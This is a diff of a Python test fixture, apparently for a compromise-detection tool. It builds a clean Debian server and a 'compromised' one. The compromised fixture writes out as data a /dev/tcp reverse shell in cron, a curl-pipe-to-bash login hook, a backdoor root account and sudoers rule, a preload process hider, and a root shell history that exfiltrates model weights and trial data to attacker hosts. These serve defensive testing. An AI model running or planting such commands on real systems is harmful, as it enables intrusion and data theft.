@@ -95,7 +95,7 @@ alice:x:1000:
 bob:x:1001:
 nogroup:x:65534:
 """
-SHADOW = """root:$y$j9T$abcdefghijklmnop$QRSTUVWXYZabcdefghijklmnopqrstuvwxyz012345:19700:0:99999:7:::
+SHADOW = """root:$y$j9T$abcdefghijklmnop$QRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123:19700:0:99999:7:::
 daemon:*:19700:0:99999:7:::
 bin:*:19700:0:99999:7:::
 sys:*:19700:0:99999:7:::
@@ -130,9 +130,11 @@ PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
 25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
 47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
 """
-E2SCRUB = """30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
-10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
-"""
+E2SCRUB = (
+    "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
+    "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
+    "10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n"
+)
 SSH_SERVICE = """[Unit]
 Description=OpenBSD Secure Shell server
 After=network.target auditd.service
@@ -222,48 +224,108 @@ def syslog_time(when: datetime) -> str:
 def stock(root: Path) -> Tree:
     """A Debian 12 research server as installed: nothing in it should raise a finding."""
     tree = Tree(root)
-    tree.write("/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n', package="base-files")
+    tree.write(
+        "/etc/os-release",
+        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n',
+        package="base-files",
+    )
     tree.write("/etc/hostname", "gpu-01\n")
     tree.write("/etc/machine-id", "0123456789abcdef0123456789abcdef\n")
     tree.write("/etc/passwd", PASSWD, package="base-passwd", conffile=True)
     tree.write("/etc/group", GROUP)
     tree.write("/etc/shadow", SHADOW, mode=0o640)
     tree.write("/etc/sudoers", SUDOERS, mode=0o440, package="sudo", conffile=True)
-    tree.write("/etc/sudoers.d/README", "# files in this folder are read by sudo\n", mode=0o440, package="sudo", conffile=True)
+    tree.write(
+        "/etc/sudoers.d/README",
+        "# files in this folder are read by sudo\n",
+        mode=0o440,
+        package="sudo",
+        conffile=True,
+    )
     tree.write("/usr/bin/sudo", b"\x7fELFsudo-binary", mode=0o4755, package="sudo")
     tree.write("/usr/bin/passwd", b"\x7fELFpasswd-binary", mode=0o4755, package="passwd")
     tree.write("/usr/bin/chage", b"\x7fELFchage-binary", mode=0o2755, package="passwd")
     tree.write("/etc/crontab", CRONTAB, package="cron", conffile=True)
     tree.write("/etc/cron.d/e2scrub_all", E2SCRUB, package="e2fsprogs", conffile=True)
-    tree.write("/etc/cron.daily/dpkg", "#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n", mode=0o755, package="dpkg", conffile=True)
-    tree.write("/etc/cron.daily/apt-compat", "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n", mode=0o755, package="apt", conffile=True)
+    tree.write(
+        "/etc/cron.daily/dpkg",
+        "#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n",
+        mode=0o755,
+        package="dpkg",
+        conffile=True,
+    )
+    tree.write(
+        "/etc/cron.daily/apt-compat",
+        "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n",
+        mode=0o755,
+        package="apt",
+        conffile=True,
+    )
     tree.write("/lib/systemd/system/ssh.service", SSH_SERVICE, package="openssh-server")
     tree.write("/lib/systemd/system/cron.service", CRON_SERVICE, package="cron")
-    tree.link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
-    tree.link("/etc/systemd/system/multi-user.target.wants/cron.service", "/lib/systemd/system/cron.service")
+    tree.link(
+        "/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service"
+    )
+    tree.link(
+        "/etc/systemd/system/multi-user.target.wants/cron.service",
+        "/lib/systemd/system/cron.service",
+    )
     tree.link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
     tree.write("/etc/profile", PROFILE, package="base-files", conffile=True)
-    tree.write("/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n", package="bash", conffile=True)
-    tree.write("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n", package="libc-bin", conffile=True)
-    tree.write("/etc/ld.so.conf.d/x86_64-linux-gnu.conf", "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n", package="libc6", conffile=True)
-    tree.write("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n", package="openssh-server", conffile=True)
+    tree.write(
+        "/etc/bash.bashrc",
+        '[ -z "$PS1" ] && return\nshopt -s checkwinsize\n',
+        package="bash",
+        conffile=True,
+    )
+    tree.write(
+        "/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n", package="libc-bin", conffile=True
+    )
+    tree.write(
+        "/etc/ld.so.conf.d/x86_64-linux-gnu.conf",
+        "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
+        package="libc6",
+        conffile=True,
+    )
+    tree.write(
+        "/etc/ssh/sshd_config",
+        "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n",
+        package="openssh-server",
+        conffile=True,
+    )
     tree.write("/root/.bashrc", BASHRC)
-    tree.write("/root/.bash_history", "apt update\napt upgrade -y\nsystemctl status ssh\n", mode=0o600)
+    tree.write(
+        "/root/.bash_history", "apt update\napt upgrade -y\nsystemctl status ssh\n", mode=0o600
+    )
     for user in ("alice", "bob"):
         tree.write(f"/home/{user}/.bashrc", BASHRC)
-        tree.write(f"/home/{user}/.profile", "if [ -n \"$BASH_VERSION\" ]; then . \"$HOME/.bashrc\"; fi\n")
-    tree.write("/home/alice/.bash_history", "nvidia-smi\ncd /data/models\npython train.py --config llm.yaml\nrsync -av runs/ 10.20.0.40:/backups/runs/\nls -la\n", mode=0o600)
+        tree.write(
+            f"/home/{user}/.profile", 'if [ -n "$BASH_VERSION" ]; then . "$HOME/.bashrc"; fi\n'
+        )
+    tree.write(
+        "/home/alice/.bash_history",
+        "nvidia-smi\ncd /data/models\npython train.py --config llm.yaml\n"
+        "rsync -av runs/ 10.20.0.40:/backups/runs/\nls -la\n",
+        mode=0o600,
+    )
     tree.write("/home/alice/.ssh/authorized_keys", ALICE_KEY + "\n", mode=0o600)
     tree.write("/home/bob/.bash_history", "htop\ngit pull\n", mode=0o600)
     (root / "tmp").mkdir(exist_ok=True)
     (root / "var/tmp").mkdir(parents=True, exist_ok=True)
     _logins(tree)
     old = NOW - timedelta(days=40)
-    _auth_log(tree, [
-        f"{syslog_time(old)} gpu-01 sshd[900]: Accepted publickey for alice from 10.20.0.15 port 51000 ssh2: ED25519 SHA256:abc\n",
-        f"{syslog_time(old)} gpu-01 sshd[900]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)\n",
-        f"{syslog_time(old)} gpu-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update\n",
-    ], NOW - timedelta(days=1))
+    _auth_log(
+        tree,
+        [
+            f"{syslog_time(old)} gpu-01 sshd[900]: Accepted publickey for alice from 10.20.0.15 "
+            "port 51000 ssh2: ED25519 SHA256:abc\n",
+            f"{syslog_time(old)} gpu-01 sshd[900]: pam_unix(sshd:session): session opened for "
+            "user alice(uid=1000) by (uid=0)\n",
+            f"{syslog_time(old)} gpu-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
+            "COMMAND=/usr/bin/apt update\n",
+        ],
+        NOW - timedelta(days=1),
+    )
     tree.dpkg()
     return tree
 
@@ -275,28 +337,65 @@ def compromised(root: Path) -> Tree:
     recent = NOW - timedelta(days=2)
     passwd = PASSWD + "toor:x:0:0::/root:/bin/bash\nbackup2:x:1002:1002::/home/backup2:/bin/bash\n"
     tree.write("/etc/passwd", passwd, when=recent)
-    tree.write("/etc/shadow", SHADOW + "toor:$6$x$y:19700:0:99999:7:::\nbackup2::19700:0:99999:7:::\n", when=recent, mode=0o640)
+    tree.write(
+        "/etc/shadow",
+        SHADOW + "toor:$6$x$y:19700:0:99999:7:::\nbackup2::19700:0:99999:7:::\n",
+        when=recent,
+        mode=0o640,
+    )
     tree.write("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libprocesshider.so\n", when=recent)
     tree.write("/usr/lib/x86_64-linux-gnu/libprocesshider.so", b"\x7fELFhider", when=recent)
-    tree.write("/etc/cron.d/sysupdate", f"*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'\n", when=recent)
-    tree.write("/etc/systemd/system/dbus-update.service", "[Unit]\nDescription=D-Bus update helper\n\n[Service]\nExecStart=/dev/shm/.x/agent --quiet\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n", when=recent)
-    tree.link("/etc/systemd/system/multi-user.target.wants/dbus-update.service", "/etc/systemd/system/dbus-update.service")
+    tree.write(
+        "/etc/cron.d/sysupdate",
+        f"*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'\n",
+        when=recent,
+    )
+    tree.write(
+        "/etc/systemd/system/dbus-update.service",
+        "[Unit]\nDescription=D-Bus update helper\n\n[Service]\n"
+        "ExecStart=/dev/shm/.x/agent --quiet\nRestart=always\n\n"
+        "[Install]\nWantedBy=multi-user.target\n",
+        when=recent,
+    )
+    tree.link(
+        "/etc/systemd/system/multi-user.target.wants/dbus-update.service",
+        "/etc/systemd/system/dbus-update.service",
+    )
     tree.write("/root/.ssh/authorized_keys", ATTACKER_KEY + "\n", when=recent, mode=0o600)
-    tree.write("/etc/sudoers.d/zz-maint", "backup2 ALL=(ALL) NOPASSWD: ALL\n", when=recent, mode=0o440)
-    tree.write("/etc/rc.local", "#!/bin/sh -e\n/usr/bin/nohup /var/tmp/.x/agent >/dev/null 2>&1 &\nexit 0\n", when=recent, mode=0o755)
-    tree.write("/etc/profile.d/zz-motd.sh", f"export PROMPT_COMMAND='curl -s http://{ATTACKER}/p | bash'\n", when=recent)
+    tree.write(
+        "/etc/sudoers.d/zz-maint", "backup2 ALL=(ALL) NOPASSWD: ALL\n", when=recent, mode=0o440
+    )
+    tree.write(
+        "/etc/rc.local",
+        "#!/bin/sh -e\n/usr/bin/nohup /var/tmp/.x/agent >/dev/null 2>&1 &\nexit 0\n",
+        when=recent,
+        mode=0o755,
+    )
+    tree.write(
+        "/etc/profile.d/zz-motd.sh",
+        f"export PROMPT_COMMAND='curl -s http://{ATTACKER}/p | bash'\n",
+        when=recent,
+    )
     tree.write("/var/tmp/.x/agent", b"\x7fELF\x02\x01\x01agent", when=recent, mode=0o755)
     tree.write("/var/tmp/.bash", b"\x7fELF\x02\x01\x01bash-copy", when=recent, mode=0o4755)
-    tree.write("/root/.bash_history", "\n".join([
-        "apt update",
-        "id",
-        "tar czf /tmp/.cache/m.tgz /data/models/llm-7b",
-        "rclone copy /tmp/.cache/m.tgz mega:loot",
-        "aws s3 cp /data/trials/trial-042.parquet s3://evil-drop/t/",
-        f"scp /data/models/llm-7b/model.safetensors u@{EXFIL_HOST}:/srv/",
-        "rm -f /tmp/.cache/m.tgz",
-        "history -c",
-    ]) + "\n", when=recent, mode=0o600)
+    tree.write(
+        "/root/.bash_history",
+        "\n".join(
+            [
+                "apt update",
+                "id",
+                "tar czf /tmp/.cache/m.tgz /data/models/llm-7b",
+                "rclone copy /tmp/.cache/m.tgz mega:loot",
+                "aws s3 cp /data/trials/trial-042.parquet s3://evil-drop/t/",
+                f"scp /data/models/llm-7b/model.safetensors u@{EXFIL_HOST}:/srv/",
+                "rm -f /tmp/.cache/m.tgz",
+                "history -c",
+            ]
+        )
+        + "\n",
+        when=recent,
+        mode=0o600,
+    )
     (root / "home/alice/.bash_history").unlink()
     tree.link("/home/alice/.bash_history", "/dev/null")
     users = ["root", "admin", "test", "oracle", "ubuntu", "alice", "postgres", "git"]
@@ -305,9 +404,15 @@ def compromised(root: Path) -> Tree:
     for index in range(40):
         when = start + timedelta(seconds=20 * index)
         user = users[index % len(users)]
-        lines.append(f"{syslog_time(when)} gpu-01 sshd[{7000 + index}]: Failed password for {user} from {ATTACKER} port {40000 + index} ssh2\n")
+        lines.append(
+            f"{syslog_time(when)} gpu-01 sshd[{7000 + index}]: Failed password for {user} "
+            f"from {ATTACKER} port {40000 + index} ssh2\n"
+        )
     win = start + timedelta(minutes=15)
-    lines.append(f"{syslog_time(win)} gpu-01 sshd[7100]: Accepted password for alice from {ATTACKER} port 45000 ssh2\n")
+    lines.append(
+        f"{syslog_time(win)} gpu-01 sshd[7100]: Accepted password for alice from {ATTACKER} "
+        "port 45000 ssh2\n"
+    )
     stock_lines = (root / "var/log/auth.log").read_text()
     _auth_log(tree, [stock_lines, *lines], NOW - timedelta(hours=1))
     wtmp = (root / "var/log/wtmp").read_bytes()
